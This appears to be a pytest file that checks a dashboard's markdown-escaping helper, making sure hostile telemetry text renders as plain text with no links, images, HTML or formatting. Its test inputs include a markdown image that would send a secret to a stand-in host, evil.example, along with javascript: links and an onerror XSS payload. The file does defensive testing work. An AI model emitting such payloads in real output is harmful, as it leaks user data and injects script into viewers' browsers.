"""markdown.py: telemetry in a markdown element reads as sent, with no markup of its own."""

from __future__ import annotations

import html
import re

import pytest
from markdown_it import MarkdownIt

from glassline.dashboard.markdown import literal

_COMMONMARK = MarkdownIt("commonmark")
HOSTILE = [
    "chat ![x](https://evil.example/p.png?d=secret)",  # fetched by the browser, before
    "[click](javascript:alert(1)) <img src=x onerror=alert(1)> &amp; &#x41;",
    "*bold* _it_ `code` ~~gone~~ # heading $x^2$ :red[alert] :smile: | a | b |",
    "\\![escaped](https://evil.example/q.png) <https://evil.example/auto>",
    "- item\n> quote\n1. first\n---\n```\nfenced\n```",
]


def _tokens(markdown: str) -> set[str]:
    return {
        t.type for block in _COMMONMARK.parse(markdown) for t in [block, *(block.children or [])]
    }


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_makes_no_markup_and_reads_as_sent(text: str) -> None:
    shown = literal(text)
    assert _tokens(shown) <= {
        "paragraph_open",
        "paragraph_close",
        "inline",
        "text",
        "hardbreak",
        "softbreak",
    }  # fmt: skip  (no image, link, html, emphasis, code, list, quote or heading)
    rendered = html.unescape(re.sub(r"<[^>]+>", "", _COMMONMARK.render(shown)))
    assert rendered.replace("\n", "").replace(" ", "") == text.replace("\n", "").replace(" ", "")


def test_line_breaks_and_indents_are_kept() -> None:
    shown = literal("def f():\n    return 1")
    assert _COMMONMARK.render(shown) == "<p>def f():<br />\n\u00a0\u00a0\u00a0\u00a0return 1</p>\n"
